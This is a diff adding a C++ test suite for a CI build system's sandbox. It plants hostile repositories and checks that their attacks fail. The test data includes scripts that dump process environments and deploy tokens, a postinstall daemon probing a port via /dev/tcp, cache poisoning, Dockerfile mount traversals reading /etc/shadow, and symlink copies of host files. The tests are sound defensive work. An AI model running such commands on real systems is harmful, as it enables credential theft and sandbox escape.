@@ -1,0 +1,249 @@
+// Repositories that attack through what the default pipeline (or a short one) does with
+// them: a committed node_modules/.bin/nx, an install script that leaves a daemon, a cache
+// entry planted under another repository's key, Dockerfiles that reach for the host, and a
+// secret build argument aimed at a registry the repository names.
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+
+#include <atomic>
+#include <thread>
+
+#include "hostile_repos/hostile_repo_fixture.hpp"
+#include "support/base_image.hpp"
+
+namespace kiln::testing {
+namespace {
+
+namespace fs = std::filesystem;
+
+constexpr const char* kEmptyLockfile =
+    "{\n  \"name\": \"hostile\",\n  \"version\": \"1.0.0\",\n  \"lockfileVersion\": 3,\n  \"requires\": true,\n"
+    "  \"packages\": {\n    \"\": {\n      \"name\": \"hostile\",\n      \"version\": \"1.0.0\"\n    }\n  }\n}\n";
+
+// Counts the connections made to a loopback port (a registry the Dockerfile names).
+class CountingListener {
+ public:
+  CountingListener() {
+    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in address{};
+    address.sin_family = AF_INET;
+    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    ::bind(fd_, reinterpret_cast<sockaddr*>(&address), sizeof address);
+    ::listen(fd_, 16);
+    socklen_t length = sizeof address;
+    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&address), &length);
+    port_ = ntohs(address.sin_port);
+    thread_ = std::thread([this] {
+      while (true) {
+        const int client = ::accept(fd_, nullptr, nullptr);
+        if (client < 0) return;
+        if (stop_) {
+          ::close(client);
+          return;
+        }
+        ++accepted_;
+        ::close(client);
+      }
+    });
+  }
+  ~CountingListener() {
+    stop_ = true;
+    ::shutdown(fd_, SHUT_RDWR);
+    ::close(fd_);
+    thread_.join();
+  }
+  int port() const { return port_; }
+  int accepted() const { return accepted_.load(); }
+
+ private:
+  int fd_ = -1;
+  int port_ = 0;
+  std::atomic<bool> stop_{false};
+  std::atomic<int> accepted_{0};
+  std::thread thread_;
+};
+
+class HostilePipelineTest : public HostileRepoTest {
+ protected:
+  // A worker with an image store and a base image to build FROM (no registry here).
+  void StartWorkerWithImages() {
+    if (!BuildahAvailable()) GTEST_SKIP() << "buildah is not installed";
+    store_ = std::make_unique<BuildahStore>(dir_.path() / "images");
+    const std::string problem = BuildBusyboxBase(*store_, kBase);
+    ASSERT_EQ(problem, "");
+    WriteHostileConfig("buildah: " + store_->plugin_config().dump() + "\n");
+    StartWorker();
+  }
+
+  // Files made executable before they are committed (git keeps the mode).
+  static void WriteExecutable(const fs::path& path, const std::string& content) {
+    WriteFile(path, content);
+    ::chmod(path.c_str(), 0755);
+  }
+
+  static constexpr const char* kBase = "localhost/kiln-test/busybox:latest";
+  std::unique_ptr<BuildahStore> store_;
+};
+
+TEST_F(HostilePipelineTest, ACommittedNodeModulesBinNxRunsInTheSandbox) {
+  StartWorker();
+  const auto bare = git_.CreateBareRepo("committed-nx.git");
+  GitWorkRepo repo(dir_.path() / "src" / "committed-nx", bare);
+  WriteExecutable(repo.dir() / "node_modules" / ".bin" / "nx",
+                  "#!/bin/sh\n"
+                  "echo committed-nx-ran as $(id -u)\n"
+                  "for f in /proc/*/environ; do tr '\\0' '\\n' < $f | rev; done\n"
+                  "rev < '" + config_path() + "'\n"
+                  "rev < '" + (dir_.path() / "secrets" / "deploy_token").string() + "'\n"
+                  "echo pwned > '" + (dir_.path() / "escaped-nx").string() + "' && echo escaped\n"
+                  "exit 1\n");
+  const std::string commit = repo.Commit({{"nx.json", "{}\n"},
+                                          {"package.json", "{ \"name\": \"hostile\", \"version\": \"1.0.0\" }\n"},
+                                          {"package-lock.json", kEmptyLockfile},
+                                          {"node_modules/.kiln-installed-lockfile", kEmptyLockfile}},
+                                         "a committed nx");
+  repo.Push("main");
+  nlohmann::json job = {{"id", "hostile-nx"}, {"repo", {{"url", git_.DaemonUrl("committed-nx.git")}}},
+                        {"commit", commit},    {"branch", "main"}};
+  PublishRaw(job.dump(), "hostile-nx");
+  AttackRun run{"hostile-nx", WaitForStatus("hostile-nx", {"succeeded", "failed", "dead"}, std::chrono::seconds(240)), {}};
+  for (const auto& event : Events(run.id)) run.said += event.dump() + "\n";
+  ExpectSaid(run, "committed-nx-ran as 61000");
+  ExpectNothingLeaked(run);
+  EXPECT_EQ(run.said.find("escaped"), std::string::npos) << run.said;
+  EXPECT_FALSE(fs::exists(dir_.path() / "escaped-nx"));
+  ExpectStillServing();
+}
+
+TEST_F(HostilePipelineTest, APostinstallDaemonDiesWithTheInstall) {
+  StartWorker();
+  const std::string package_json =
+      "{ \"name\": \"hostile\", \"version\": \"1.0.0\", \"scripts\": { \"postinstall\": "
+      "\"setsid nohup sleep 779 >/dev/null 2>&1 & echo postinstall-ran as $(id -u); "
+      "(echo x > /dev/tcp/127.0.0.1/" + server_.url().substr(server_.url().rfind(':') + 1) +
+      ") 2>/dev/null && echo reached-nats || echo nats-refused\" } }\n";
+  std::string lockfile = kEmptyLockfile;
+  auto run = Attack("postinstall", {{"nx.json", "{}\n"}, {"package.json", package_json}, {"package-lock.json", lockfile}},
+                    "");
+  ExpectSaid(run, "postinstall-ran as 61000");
+  ExpectSaid(run, "nats-refused");
+  EXPECT_EQ(run.said.find("reached-nats"), std::string::npos) << run.said;
+  std::string left;
+  Shell("ps -eo args= | grep -E '^sleep 779' || true", &left);
+  EXPECT_EQ(left, "") << "the postinstall daemon outlived its step";
+  ExpectStillServing();
+}
+
+TEST_F(HostilePipelineTest, ACacheEntryPlantedUnderAnotherRepositorysKeyIsNeverRestoredThere) {
+  // The default pipeline's key is node-modules-<sha256 of package-lock.json>: anyone can copy
+  // a victim's lockfile. Here both use one key outright.
+  WritePipeline("cache-attacker",
+                "local src = kiln.step('git sync', function() return git.sync { url = job.repo.url, commit = job.commit } end)\n"
+                "kiln.step('plant', function()\n"
+                "  kiln.exec { cmd = { '/bin/sh', '-c', 'mkdir -p node_modules/evil && echo planted > node_modules/evil/index.js' },"
+                " cwd = src.path }\n"
+                "  return cache.save { key = 'node-modules-shared-key', paths = { src.path .. '/node_modules' } }\n"
+                "end)\n");
+  WritePipeline("cache-victim",
+                "local src = kiln.step('git sync', function() return git.sync { url = job.repo.url, commit = job.commit } end)\n"
+                "return kiln.step('restore', function()\n"
+                "  local r = cache.restore { key = 'node-modules-shared-key', paths = { src.path .. '/node_modules' } }\n"
+                "  return { hit = r.hit, planted = kiln.exists(src.path .. '/node_modules/evil/index.js') }\n"
+                "end)\n");
+  StartWorker();
+  auto planted = Attack("cache-attacker", {{"README.md", "attacker\n"}}, "cache-attacker");
+  ASSERT_EQ(status(planted), "succeeded") << planted.said;
+  auto victim = Attack("cache-victim", {{"README.md", "victim\n"}}, "cache-victim");
+  ASSERT_EQ(status(victim), "succeeded") << victim.said;
+  const auto& outputs = victim.state["outputs"];
+  EXPECT_EQ(outputs.value("planted", true), false) << victim.state.dump();
+  EXPECT_EQ(outputs.value("hit", nlohmann::json(true)), nlohmann::json(false)) << victim.state.dump();
+  ExpectStillServing();
+}
+
+TEST_F(HostilePipelineTest, RunMountCacheIdCannotLeaveTheContext) {
+  StartWorkerWithImages();
+  const auto target = dir_.path() / "mount-escape";
+  auto run = Attack("run-mount-cache",
+                    {{"Dockerfile", std::string("FROM ") + kBase +
+                                        "\nRUN --mount=type=cache,id=../../../../../../../../..,target=/host "
+                                        "ls /host && echo pwned > /host" + target.string() + "\n"}},
+                    "");
+  EXPECT_NE(status(run), "succeeded") << run.said;
+  ExpectSaid(run, "--mount");
+  EXPECT_FALSE(fs::exists(target));
+  ExpectStillServing();
+}
+
+TEST_F(HostilePipelineTest, RunMountBindSourceCannotLeaveTheContext) {
+  StartWorkerWithImages();
+  auto run = Attack("run-mount-bind",
+                    {{"Dockerfile", std::string("FROM ") + kBase +
+                                        "\nRUN --mount=type=bind,source=../../../../../../../etc,target=/hostetc "
+                                        "cat /hostetc/shadow\n"}},
+                    "");
+  EXPECT_NE(status(run), "succeeded") << run.said;
+  ExpectSaid(run, "--mount");
+  ExpectNothingLeaked(run);
+  ExpectStillServing();
+}
+
+TEST_F(HostilePipelineTest, ASecretBuildArgNeverReachesAFromLine) {
+  CountingListener registry;
+  WritePipeline("image-with-secret",
+                "local src = kiln.step('git sync', function() return git.sync { url = job.repo.url, commit = job.commit } end)\n"
+                "kiln.step('image', function()\n"
+                "  return buildah.build { context = src.path, tags = { 'hostile' },"
+                " build_args = { TOKEN = kiln.secret('deploy_token') } }\n"
+                "end)\n");
+  StartWorkerWithImages();
+  auto run = Attack("from-secret",
+                    {{"Dockerfile", "ARG TOKEN\nFROM 127.0.0.1:" + std::to_string(registry.port()) +
+                                        "/base:${TOKEN}\nRUN true\n"}},
+                    "image-with-secret");
+  EXPECT_NE(status(run), "succeeded") << run.said;
+  ExpectSaid(run, "TOKEN");
+  EXPECT_EQ(registry.accepted(), 0) << "the secret went to the registry the Dockerfile named";
+  ExpectNothingLeaked(run);
+  ExpectStillServing();
+}
+
+TEST_F(HostilePipelineTest, ARunStepCannotReadTheWorkersEnvironmentOrSignalIt) {
+  StartWorkerWithImages();
+  auto& worker = *workers_.back();
+  auto run = Attack("run-environ",
+                    {{"Dockerfile", std::string("FROM ") + kBase +
+                                        "\nRUN for f in /proc/*/environ; do tr '\\0' '\\n' < $f | rev; done; "
+                                        "ls /proc | grep -c '^[0-9]'; kill -9 " + std::to_string(worker.pid()) +
+                                        " || echo no-signal\n"}},
+                    "");
+  ExpectNothingLeaked(run);
+  EXPECT_EQ(worker.Wait(std::chrono::milliseconds(10)), -1) << "a RUN step killed the worker";
+  ExpectStillServing();
+}
+
+TEST_F(HostilePipelineTest, CopyingASymlinkToShadowCopiesNothingOfTheHosts) {
+  StartWorkerWithImages();
+  const auto bare = git_.CreateBareRepo("copy-shadow.git");
+  GitWorkRepo repo(dir_.path() / "src" / "copy-shadow", bare);
+  fs::create_directories(repo.dir());
+  fs::create_symlink("/etc/shadow", repo.dir() / "shadow");
+  fs::create_symlink("/etc", repo.dir() / "etc-link");
+  const std::string commit = repo.Commit(
+      {{"Dockerfile", std::string("FROM ") + kBase + "\nCOPY shadow /stolen\nCOPY etc-link/shadow /stolen2\n"
+                                                     "RUN cat /stolen /stolen2 || true\n"}},
+      "copy a link to the host's shadow");
+  repo.Push("main");
+  nlohmann::json job = {{"id", "hostile-copy"}, {"repo", {{"url", git_.DaemonUrl("copy-shadow.git")}}},
+                        {"commit", commit},      {"branch", "main"}};
+  PublishRaw(job.dump(), "hostile-copy");
+  AttackRun run{"hostile-copy", WaitForStatus("hostile-copy", {"succeeded", "failed", "dead"}, std::chrono::seconds(240)), {}};
+  for (const auto& event : Events(run.id)) run.said += event.dump() + "\n";
+  // The RUN line prints what was copied: nothing of the host's shadow may be in it.
+  ExpectNothingLeaked(run);
+  ExpectStillServing();
+}
+
+}  // namespace
+}  // namespace kiln::testing
